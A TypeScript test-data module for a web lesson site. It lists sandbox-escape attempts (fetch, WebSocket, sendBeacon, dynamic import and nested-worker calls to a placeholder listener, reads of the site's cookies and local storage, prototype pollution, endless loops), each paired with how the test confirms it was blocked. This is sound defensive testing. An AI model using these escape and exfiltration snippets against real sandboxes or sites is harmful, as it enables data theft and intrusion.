/**
 * @packageDocumentation
 * Attacks on the code cells' sandbox, as data: each one is code and the way
 * to see that it failed. `tests/e2e/sandbox-attacks.spec.ts` runs them in
 * Chromium; a harness for another browser runs the same list.
 *
 * Three layers, from the reader's seat inwards:
 * - `CODE_ATTACKS`: the reader's TypeScript, opened from a share link in
 *   lesson 2's cell and run as a 2-game match (depth 1, seed 1). It runs in
 *   a SES compartment inside the sandbox's worker.
 * - `ESCAPED_ATTACKS`: JavaScript run in a worker started from a blob by the
 *   real sandbox frame, with the worker's full global scope: what the
 *   reader's code could do if it ever got out of its compartment. The frame's
 *   opaque origin and policy must still stop it.
 * - `FRAME_ATTACKS`: JavaScript run in the sandbox frame's document itself.
 *
 * Placeholders in the code, filled by `fill`: `%URL%` an http URL of a
 * listener the test runs (which must receive nothing), `%WS%` the same as
 * ws://, `%HTTPS%` as https://, `%SITE%` a URL on the site's own server
 * under a path the test watches (which must see no request).
 *
 * An escaped or frame attack is the body of an async function: it returns a
 * string that starts with `reached` when the attack worked, and returns
 * anything else or throws when it did not.
 *
 * `needs` names the worker global an attack uses where a browser engine may
 * not have it (a path from the global: `navigator.sendBeacon`). A harness for
 * another engine states, per attack, when its engine lacks it
 * (`tests/browsers/engineGaps.ts`), and checks that statement in a worker of
 * the sandbox itself.
 */

/** What a 2-game match of the honest evaluation (always 0) gives: the built-in side wins both, in 6 and 5 moves. */
export const HONEST = { wins: 0, losses: 2, draws: 0, stopped: 0, moves: [6, 5] } as const;

export type CodeObservation =
  /** The match is exactly the honest one: no game stopped, the same winners, the same lengths. */
  | { readonly kind: 'honest' }
  /** Game `game` (1 or 2) is stopped with a message that matches; the row's text stays under 1,000 characters. */
  | { readonly kind: 'stopped'; readonly game: 1 | 2; readonly message: RegExp }
  /** The cell's checker lists an error that matches and nothing runs (no sandbox is even started). */
  | { readonly kind: 'refused'; readonly message: RegExp };

export interface CodeAttack {
  readonly id: string;
  readonly title: string;
  /** The reader's code (TypeScript: it must pass the checker). */
  readonly code: string;
  readonly expect: CodeObservation;
  /** The worker global the attack uses, where an engine may lack it (see the module's doc). */
  readonly needs?: string;
}

export interface ScopeAttack {
  readonly id: string;
  readonly title: string;
  /** The body of an async function (see the module's doc). */
  readonly body: string;
  /** The worker global the attack uses, where an engine may lack it (see the module's doc). */
  readonly needs?: string;
}

/** Code that says 0 everywhere after trying `body` at its top level, where an exception is swallowed. */
const tries = (body: string): string => `const g: any = globalThis;
try {
${body}
} catch {}
function evaluate(p: Position): number {
  return 0;
}
`;

/** The same, trying `body` at every call of evaluate too. */
const triesAlways = (body: string): string => `const g: any = globalThis;
function attack(): void {
  try {
${body}
  } catch {}
}
attack();
function evaluate(p: Position): number {
  attack();
  return 0;
}
`;

/** An evaluation whose body is `body`. */
const evaluation = (body: string): string => `const g: any = globalThis;
function evaluate(p: Position): number {
${body}
}
`;

const honest: CodeObservation = { kind: 'honest' };

export const CODE_ATTACKS: readonly CodeAttack[] = [
  {
    id: 'proto-fetch',
    title: 'fetch from the prototype of the global scope',
    code: tries("Object.getPrototypeOf(Object.getPrototypeOf(globalThis)).fetch.call(globalThis, '%URL%');"),
    expect: honest,
  },
  { id: 'fetch', title: 'plain fetch', code: tries("g.fetch('%URL%');"), expect: honest },
  { id: 'xhr', needs: 'XMLHttpRequest', title: 'XMLHttpRequest', code: tries("const x = new g.XMLHttpRequest();\nx.open('GET', '%URL%');\nx.send();"), expect: honest },
  { id: 'websocket', needs: 'WebSocket', title: 'WebSocket', code: tries("new g.WebSocket('%WS%');"), expect: honest },
  { id: 'eventsource', needs: 'EventSource', title: 'EventSource', code: tries("new g.EventSource('%URL%');"), expect: honest },
  { id: 'websocketstream', needs: 'WebSocketStream', title: 'WebSocketStream', code: tries("new g.WebSocketStream('%WS%');"), expect: honest },
  { id: 'webtransport', needs: 'WebTransport', title: 'WebTransport', code: tries("new g.WebTransport('%HTTPS%');"), expect: honest },
  { id: 'beacon', needs: 'navigator.sendBeacon', title: 'navigator.sendBeacon', code: tries("g.navigator.sendBeacon('%URL%', 'secret');"), expect: honest },
  { id: 'import-eval', title: 'dynamic import() through eval', code: tries("(0, eval)('imp' + 'ort(\"%URL%\")');"), expect: honest },
  {
    id: 'direct-eval',
    title: 'a direct eval (refused by SES before the code runs)',
    code: `const run = (s: string) => eval(s);\n${evaluation('  return 0;')}`,
    expect: { kind: 'stopped', game: 1, message: /^Stopped: your evaluation threw an exception while loading, SyntaxError: Possible direct eval expression rejected/ },
  },
  { id: 'import-function', title: 'dynamic import() through new Function', code: tries("new Function('return imp' + 'ort(\"%URL%\")')();"), expect: honest },
  {
    id: 'import-literal',
    title: 'dynamic import() written out (refused by the checker: nothing runs)',
    code: `const load = () => import('%URL%');\n${evaluation('  return 0;')}`,
    expect: { kind: 'refused', message: /Cannot find module 'http/ },
  },
  {
    id: 'import-text',
    title: 'import( in the source text, even in a string (refused by SES before the code runs)',
    code: `const load = "import('%URL%')";\n${evaluation('  return 0;')}`,
    expect: { kind: 'stopped', game: 1, message: /^Stopped: your evaluation threw an exception while loading, SyntaxError: Possible import expression rejected/ },
  },
  { id: 'importscripts', needs: 'importScripts', title: 'importScripts', code: tries("g.importScripts('%URL%');"), expect: honest },
  { id: 'fontface', needs: 'FontFace', title: 'new FontFace(…).load()', code: tries("new g.FontFace('x', 'url(%URL%)').load();"), expect: honest },
  { id: 'indexeddb', needs: 'indexedDB', title: 'indexedDB', code: tries("g.indexedDB.open('mn-pwned');"), expect: honest },
  { id: 'caches', needs: 'caches', title: 'Cache Storage', code: tries("g.caches.open('mn-pwned');"), expect: honest },
  { id: 'nested-worker', needs: 'Worker', title: 'a nested Worker', code: tries("new g.Worker(g.URL.createObjectURL(new g.Blob([\"fetch('%URL%')\"])));"), expect: honest },
  { id: 'nested-worker-url', needs: 'Worker', title: 'a nested Worker from a URL', code: tries("new g.Worker('%URL%');"), expect: honest },
  {
    id: 'post-message',
    title: 'postMessage to the page, the frame or anyone',
    code: tries("g.postMessage('pwned');\ng.self.postMessage('pwned');\ng.parent.postMessage('pwned', '*');"),
    expect: honest,
  },
  { id: 'broadcast', needs: 'BroadcastChannel', title: 'BroadcastChannel', code: tries("new g.BroadcastChannel('mn-secret').postMessage('pwned');"), expect: honest },
  { id: 'function-this', title: "Function('return this')()", code: tries("Function('return this')().fetch('%URL%');"), expect: honest },
  { id: 'global-constructor', title: 'globalThis.constructor', code: tries("g.constructor.constructor('return fetch')()('%URL%');"), expect: honest },
  { id: 'eval-global', title: 'indirect eval of the global scope', code: tries("(0, eval)('self').fetch('%URL%');"), expect: honest },
  { id: 'atomics', needs: 'SharedArrayBuffer', title: 'Atomics.wait on shared memory', code: tries('Atomics.wait(new Int32Array(new g.SharedArrayBuffer(4)), 0, 0, 1e9);'), expect: honest },
  { id: 'structured-clone', needs: 'structuredClone', title: 'a structuredClone bomb', code: tries('g.structuredClone(new Array(1e6).fill({ a: [1, 2, 3] }));'), expect: honest },
  { id: 'timer', title: 'a setTimeout left running after the job', code: tries("g.setTimeout(() => g.fetch('%URL%'), 50);\ng.setInterval(() => g.fetch('%URL%'), 50);"), expect: honest },
  {
    id: 'math-max',
    title: 'overwriting Math.max and Math.min to change the built-in side',
    code: triesAlways('    Math.max = () => 0;\n    Math.min = () => 0;'),
    expect: honest,
  },
  {
    id: 'array-filter',
    title: 'overwriting Array.prototype.filter, push and includes',
    code: triesAlways('    Array.prototype.filter = function () { return []; };\n    Array.prototype.push = function () { return 0; };\n    Array.prototype.includes = () => true;'),
    expect: honest,
  },
  {
    id: 'object-prototype',
    title: 'Object.prototype pollution',
    code: triesAlways("    (Object.prototype as any).depth = 0;\n    (Object.prototype as any).evaluate = () => 9;\n    Object.defineProperty(Object.prototype, 'best', { get: () => [0] });"),
    expect: honest,
  },
  {
    id: 'huge-message',
    title: 'a thrown error with a 16 MB message',
    code: evaluation("  throw new Error('A'.repeat(16_000_000));"),
    expect: { kind: 'stopped', game: 1, message: /^Stopped: your evaluation threw an exception, Error: A{300}… \(15,999,700 more characters\)\.$/ },
  },
  {
    id: 'huge-result',
    title: 'a huge returned object',
    // A million entries, far past any message cap (as in structured-clone): ten
    // million take Firefox 3 s to build, past the 2 s limit, where Chromium takes 50 ms.
    code: evaluation('  return new Array(1_000_000).fill({ x: 1 }) as any;'),
    expect: { kind: 'stopped', game: 1, message: /^Stopped: your evaluation returned an array, an array, not a number/ },
  },
  {
    id: 'value-of',
    title: 'a result whose valueOf reaches out',
    code: evaluation("  return { valueOf: () => (g.fetch('%URL%'), 0) } as any;"),
    expect: { kind: 'stopped', game: 1, message: /^Stopped: your evaluation returned an object, an object, not a number/ },
  },
  {
    id: 'throwing-getter',
    title: "a getter that throws in a thrown error's message",
    code: evaluation("  const e = new Error('x');\n  Object.defineProperty(e, 'message', { get() { throw new Error('again'); } });\n  throw e;"),
    expect: { kind: 'stopped', game: 1, message: /^Stopped: your evaluation threw an exception, an exception that cannot be read/ },
  },
  {
    id: 'looping-getter',
    title: "a getter that never ends in a thrown error's message",
    code: evaluation("  const e = new Error('x');\n  Object.defineProperty(e, 'message', { get() { for (;;) {} } });\n  throw e;"),
    expect: { kind: 'stopped', game: 1, message: /^Stopped: your evaluation ran for more than 2 s on move 1 and was stopped/ },
  },
  {
    id: 'load-loop',
    title: 'an endless loop while the code loads, in the game the built-in side opens',
    code: `for (;;) {}\n${evaluation('  return 0;')}`,
    expect: { kind: 'stopped', game: 2, message: /^Stopped: your evaluation ran for more than 2 s while its code loaded, before the first move/ },
  },
];

/** Reached only if `promise` settles with a response, a module, an open socket… */
const reach = (what: string) => `return 'reached: ' + String(await ${what});`;

/**
 * The body of an attack that starts a nested worker (`start`, an expression)
 * and answers with what the worker says (`said`, a message handler's source).
 * It marks the constructor's return: in Firefox under load the constructor
 * sometimes never returns (engineGaps.ts, `ENGINE_HANGS`).
 */
function nested(start: string, said: string): string {
  return `const w = ${start};\npostMessage('mark: constructed');\nreturn await new Promise((ok) => { w.onmessage = (e) => ok((${said})(e)); w.onerror = (e) => ok('blocked: error event ' + (e.message || '')); });`;
}

export const ESCAPED_ATTACKS: readonly ScopeAttack[] = [
  { id: 'escaped-fetch', title: 'fetch', body: reach("fetch('%URL%').then((r) => r.status)") },
  { id: 'escaped-fetch-site', title: 'fetch of the site itself', body: reach("fetch('%SITE%').then((r) => r.status)") },
  { id: 'escaped-fetch-no-cors', title: 'fetch in no-cors mode', body: reach("fetch('%URL%', { mode: 'no-cors' }).then((r) => r.type)") },
  {
    id: 'escaped-proto-fetch',
    title: 'fetch from WorkerGlobalScope.prototype',
    body: reach("Object.getPrototypeOf(Object.getPrototypeOf(globalThis)).fetch.call(globalThis, '%URL%').then((r) => r.status)"),
  },
  {
    id: 'escaped-xhr', needs: 'XMLHttpRequest',
    title: 'XMLHttpRequest',
    body: "const x = new XMLHttpRequest();\nx.open('GET', '%URL%');\nx.send();\nreturn await new Promise((ok, no) => { x.onload = () => ok('reached: ' + x.status); x.onerror = () => no(new Error('error event')); });",
  },
  {
    id: 'escaped-websocket', needs: 'WebSocket',
    title: 'WebSocket',
    body: "const w = new WebSocket('%WS%');\nreturn await new Promise((ok, no) => { w.onopen = () => ok('reached: open'); w.onerror = () => no(new Error('error event')); });",
  },
  {
    id: 'escaped-eventsource', needs: 'EventSource',
    title: 'EventSource',
    body: "const s = new EventSource('%URL%');\nreturn await new Promise((ok, no) => { s.onopen = () => ok('reached: open'); s.onerror = () => no(new Error('error event')); });",
  },
  {
    id: 'escaped-websocketstream', needs: 'WebSocketStream',
    title: 'WebSocketStream',
    body: "if (typeof WebSocketStream === 'undefined') return 'absent';\nconst w = new WebSocketStream('%WS%');\nreturn 'reached: ' + String(await w.opened);",
  },
  { id: 'escaped-webtransport', needs: 'WebTransport', title: 'WebTransport', body: "if (typeof WebTransport === 'undefined') return 'absent';\nconst t = new WebTransport('%HTTPS%');\nreturn 'reached: ' + String(await t.ready);" },
  { id: 'escaped-import', title: 'dynamic import()', body: reach("import('%URL%')") },
  { id: 'escaped-import-eval', title: 'dynamic import() through eval', body: reach("eval('import(\"%URL%\")')") },
  { id: 'escaped-import-function', title: 'dynamic import() through new Function', body: reach("new Function('return import(\"%URL%\")')()") },
  { id: 'escaped-import-data', title: 'dynamic import() of a data: URL', body: reach("import('data:text/javascript,fetch(\"%URL%\")')") },
  { id: 'escaped-import-blob', title: 'dynamic import() of a blob the code made', body: reach("import(URL.createObjectURL(new Blob(['fetch(\"%URL%\")'], { type: 'text/javascript' })))") },
  { id: 'escaped-importscripts', needs: 'importScripts', title: 'importScripts', body: "importScripts('%URL%');\nreturn 'reached';" },
  { id: 'escaped-importscripts-blob', needs: 'importScripts', title: 'importScripts of a blob', body: "importScripts(URL.createObjectURL(new Blob(['fetch(\"%URL%\")'])));\nreturn 'reached';" },
  { id: 'escaped-fontface', needs: 'FontFace', title: 'new FontFace(…).load()', body: reach("new FontFace('x', 'url(%URL%)').load()") },
  {
    id: 'escaped-indexeddb', needs: 'indexedDB',
    title: "indexedDB: the site's database",
    body: "const db = await new Promise((ok, no) => { const r = indexedDB.open('mn-secret'); r.onsuccess = () => ok(r.result); r.onerror = () => no(r.error); });\nreturn db.objectStoreNames.contains('secret') ? 'reached: the site database' : 'an empty database of its own';",
  },
  { id: 'escaped-caches', needs: 'caches', title: "Cache Storage: the site's caches", body: "const keys = await caches.keys();\nreturn keys.includes('mn-secret') ? 'reached: the site cache' : 'caches of its own: ' + keys.length;" },
  {
    id: 'escaped-nested-worker', needs: 'Worker',
    title: 'a nested Worker from a blob, which fetches',
    body: nested("new Worker(URL.createObjectURL(new Blob([\"fetch('%URL%').then(() => postMessage('reached'), (e) => postMessage('blocked: ' + e))\"])))", '(e) => String(e.data)'),
  },
  {
    id: 'escaped-nested-worker-url', needs: 'Worker',
    title: 'a nested Worker from a URL',
    body: nested("new Worker('%URL%')", "() => 'reached'"),
  },
  { id: 'escaped-beacon', needs: 'navigator.sendBeacon', title: 'navigator.sendBeacon', body: "return navigator.sendBeacon ? 'reached: ' + navigator.sendBeacon('%URL%', 'x') : 'absent';" },
  { id: 'escaped-broadcast', needs: 'BroadcastChannel', title: "BroadcastChannel to the site's pages", body: "new BroadcastChannel('mn-secret').postMessage('pwned');\nreturn 'sent (the page must hear nothing)';" },
  { id: 'escaped-origin', title: 'the origin is opaque', body: "return self.origin === 'null' ? 'opaque' : 'reached: ' + self.origin;" },
];

export const FRAME_ATTACKS: readonly ScopeAttack[] = [
  { id: 'frame-fetch', title: 'fetch from the frame', body: reach("fetch('%URL%').then((r) => r.status)") },
  { id: 'frame-fetch-site', title: 'fetch of the site from the frame', body: reach("fetch('%SITE%').then((r) => r.status)") },
  { id: 'frame-image', title: 'an image', body: "const i = new Image();\ni.src = '%URL%';\nreturn await new Promise((ok, no) => { i.onload = () => ok('reached'); i.onerror = () => no(new Error('error event')); });" },
  { id: 'frame-script', title: 'a script element', body: "const s = document.createElement('script');\ns.src = '%URL%';\ndocument.head.append(s);\nreturn await new Promise((ok, no) => { s.onload = () => ok('reached'); s.onerror = () => no(new Error('error event')); });" },
  { id: 'frame-local-storage', title: "the site's local storage", body: "return localStorage.getItem('mn-secret') !== null ? 'reached: ' + localStorage.getItem('mn-secret') : 'nothing';" },
  { id: 'frame-cookie', title: "the site's cookies", body: "return document.cookie.includes('mn-secret') ? 'reached' : 'nothing';" },
  { id: 'frame-parent', title: "the page's document", body: "return 'reached: ' + parent.document.title;" },
  { id: 'frame-top-navigation', title: 'navigating the page away', body: "top.location.href = '%URL%';\nreturn 'asked (the page must not move)';" },
  { id: 'frame-popup', title: 'a popup', body: "const w = open('%URL%');\nreturn w ? 'reached: a window' : 'refused';" },
];

/** `code` with its placeholders filled. */
export function fill(code: string, urls: { readonly listener: string; readonly site: string }, id: string): string {
  const http = `${urls.listener}/${id}`;
  return code
    .replaceAll('%URL%', http)
    .replaceAll('%WS%', http.replace(/^http:/, 'ws:'))
    .replaceAll('%HTTPS%', http.replace(/^http:/, 'https:'))
    .replaceAll('%SITE%', `${urls.site}/attack-${id}`);
}
